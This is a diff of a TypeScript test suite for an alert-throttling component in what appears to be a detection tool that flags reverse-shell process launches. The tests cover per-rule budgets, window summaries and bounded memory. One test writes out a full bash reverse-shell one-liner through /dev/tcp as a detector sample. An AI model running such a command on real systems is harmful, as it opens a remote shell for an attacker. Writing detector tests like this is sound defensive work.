@@ -13,60 +13,92 @@ function reverseShellAlert(pid: number, port = 9): AlertDocument {
   return buildAlert(match!, clock);
 }
 
+const SEED = '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39';
+
 describe('AlertThrottle', () => {
-  it('lets the first alert through and holds back repeats that differ only in pid and time', () => {
-    now = 1_000;
+  it('lets every launch through at the time, identical command lines included, up to the rule budget', () => {
+    now = 0;
     const throttle = new AlertThrottle(clock, { windowMs: 60_000 });
-    expect(throttle.offer(reverseShellAlert(100))).not.toBeNull();
-    for (let i = 1; i <= 500; i++) {
-      now += 10;
-      expect(throttle.offer(reverseShellAlert(100 + i))).toBeNull();
+    // The same one-liner five times in ten seconds, from fresh processes: five alerts, at once.
+    for (let i = 0; i < 5; i++) {
+      now = i * 2_000;
+      const out = throttle.offer(reverseShellAlert(100 + i));
+      expect(out).not.toBeNull();
+      expect((out!.process as { pid: number }).pid).toBe(100 + i);
+      expect(out!.execwarden?.throttle).toBeUndefined();
     }
-    expect(throttle.stats()).toEqual({ emitted: 1, suppressed: 500, tracked: 1 });
+    expect(throttle.stats()).toEqual({ emitted: 5, suppressed: 0, tracked: 0 });
   });
 
-  it('treats a different command as a different alert', () => {
-    now = 0;
-    const throttle = new AlertThrottle(clock, { windowMs: 60_000 });
-    expect(throttle.offer(reverseShellAlert(1, 9))).not.toBeNull();
-    expect(throttle.offer(reverseShellAlert(2, 10))).not.toBeNull();
-    expect(throttle.stats().tracked).toBe(2);
-  });
-
-  it('reports the held-back count on the first alert after the window', () => {
-    now = 0;
-    const throttle = new AlertThrottle(clock, { windowMs: 1_000 });
-    throttle.offer(reverseShellAlert(1));
-    now = 500;
-    throttle.offer(reverseShellAlert(2));
-    throttle.offer(reverseShellAlert(3));
+  it('holds back only what a rule raises beyond its budget, and counts it per kind', () => {
     now = 1_000;
-    const next = throttle.offer(reverseShellAlert(4));
-    expect(next?.execwarden?.throttle).toEqual({ suppressed: 2 });
-    expect((next?.process as { pid: number }).pid).toBe(4);
-    now = 2_500;
-    expect(throttle.offer(reverseShellAlert(5))?.execwarden?.throttle).toBeUndefined();
+    const throttle = new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 3 });
+    for (let i = 0; i < 3; i++) expect(throttle.offer(reverseShellAlert(100 + i))).not.toBeNull();
+    for (let i = 3; i <= 500; i++) {
+      now += 10;
+      expect(throttle.offer(reverseShellAlert(100 + i, i % 2 === 0 ? 9 : 10))).toBeNull();
+    }
+    expect(throttle.stats()).toEqual({ emitted: 3, suppressed: 498, tracked: 2 });
   });
 
-  it('drains windows that closed with repeats, once', () => {
+  it('summarises each held-back kind once its rule window closes: count, first and latest', () => {
     now = 0;
-    const throttle = new AlertThrottle(clock, { windowMs: 1_000 });
-    throttle.offer(reverseShellAlert(1));
-    throttle.offer(reverseShellAlert(2));
-    throttle.offer(reverseShellAlert(3, 10));
+    const throttle = new AlertThrottle(clock, { windowMs: 1_000, perRuleBudget: 1 });
+    expect(throttle.offer(reverseShellAlert(1))).not.toBeNull();
+    now = 200;
+    expect(throttle.offer(reverseShellAlert(2))).toBeNull();
+    now = 700;
+    expect(throttle.offer(reverseShellAlert(3))).toBeNull();
+    expect(throttle.offer(reverseShellAlert(4, 10))).toBeNull();
     now = 999;
     expect(throttle.drain()).toEqual([]);
     now = 1_000;
     const drained = throttle.drain();
-    expect(drained).toHaveLength(1);
-    expect(drained[0]).toMatchObject({ ruleId: '259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39', suppressed: 1, windowStartMs: 0, lastSeenMs: 0 });
+    expect(drained).toHaveLength(2);
+    expect(drained[0]).toMatchObject({ ruleId: SEED, suppressed: 2, windowStartMs: 0, firstSeenMs: 200, lastSeenMs: 700 });
+    expect((drained[0]!.first.process as { pid: number }).pid).toBe(2);
+    expect((drained[0]!.latest.process as { pid: number }).pid).toBe(3);
+    expect(drained[1]).toMatchObject({ suppressed: 1 });
     expect(throttle.drain()).toEqual([]);
+    expect(throttle.stats().tracked).toBe(0);
+    // A new window: the budget is whole again.
+    expect(throttle.offer(reverseShellAlert(5))).not.toBeNull();
+  });
+
+  it('reports what is held when an alert opens the next window before a drain, and everything on drainAll', () => {
+    now = 0;
+    const throttle = new AlertThrottle(clock, { windowMs: 1_000, perRuleBudget: 1 });
+    throttle.offer(reverseShellAlert(1));
+    throttle.offer(reverseShellAlert(2));
+    now = 1_500;
+    expect(throttle.offer(reverseShellAlert(3))).not.toBeNull();
+    throttle.offer(reverseShellAlert(4));
+    expect(throttle.drain().map((s) => s.suppressed)).toEqual([1]);
+    expect(throttle.drainAll().map((s) => (s.latest.process as { pid: number }).pid)).toEqual([4]);
     expect(throttle.stats().tracked).toBe(0);
   });
 
-  it('caps the kinds it tracks and reports the evicted ones', () => {
+  it('counts budgets per rule: one rule\'s flood does not hold back another\'s alert', () => {
     now = 0;
-    const throttle = new AlertThrottle(clock, { windowMs: 60_000, maxKeys: 2 });
+    const throttle = new AlertThrottle(clock, { windowMs: 60_000, perRuleBudget: 1 });
+    const other = (pid: number): ReturnType<typeof reverseShellAlert> => {
+      const alert = reverseShellAlert(pid);
+      return { ...alert, rule: { ...alert.rule, id: 'another-rule' } };
+    };
+    throttle.offer(reverseShellAlert(1));
+    expect(throttle.offer(reverseShellAlert(2))).toBeNull();
+    expect(throttle.offer(other(3))).not.toBeNull();
+  });
+
+  it('window 0 turns flood control off', () => {
+    now = 0;
+    const throttle = new AlertThrottle(clock, { windowMs: 0, perRuleBudget: 1 });
+    for (let i = 0; i < 50; i++) expect(throttle.offer(reverseShellAlert(i))).not.toBeNull();
+  });
+
+  it('caps the kinds it holds and reports the oldest early to make room', () => {
+    now = 0;
+    const throttle = new AlertThrottle(clock, { windowMs: 60_000, maxKeys: 2, perRuleBudget: 1 });
     throttle.offer(reverseShellAlert(1, 1));
     throttle.offer(reverseShellAlert(2, 1));
     throttle.offer(reverseShellAlert(3, 2));
@@ -75,19 +107,21 @@ describe('AlertThrottle', () => {
     expect(throttle.drain().map((s) => s.suppressed)).toEqual([1]);
   });
 
-  it('holds kinds in bounded bytes: a hashed identity and a shortened first alert', async () => {
+  it('holds kinds in bounded bytes: a hashed identity and shortened occurrences', async () => {
     const { alertIdentity } = await import('../../src/alerts/index.js');
     now = 0;
     const pad = 'x'.repeat(120_000);
     const [match] = set.evaluate(execEvent({ name: 'setsid', pid: 9, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/9 0>&1 #${pad}`] }));
     const big = buildAlert(match!, clock);
     expect(alertIdentity(big).length).toBeLessThan(64);
-    const throttle = new AlertThrottle(clock, { windowMs: 1_000, keptAlertBytes: 8_192 });
+    const throttle = new AlertThrottle(clock, { windowMs: 1_000, keptAlertBytes: 8_192, perRuleBudget: 1 });
     expect(throttle.offer(big)).toBe(big); // what goes out is whole
+    throttle.offer(big);
     throttle.offer(big);
     now = 2_000;
     const [summary] = throttle.drain();
     expect(Buffer.byteLength(JSON.stringify(summary!.first))).toBeLessThanOrEqual(8_192);
-    expect(summary!.first.rule.id).toBe(big.rule.id);
+    expect(Buffer.byteLength(JSON.stringify(summary!.latest))).toBeLessThanOrEqual(8_192);
+    expect(summary!.latest.rule.id).toBe(big.rule.id);
   });
 });
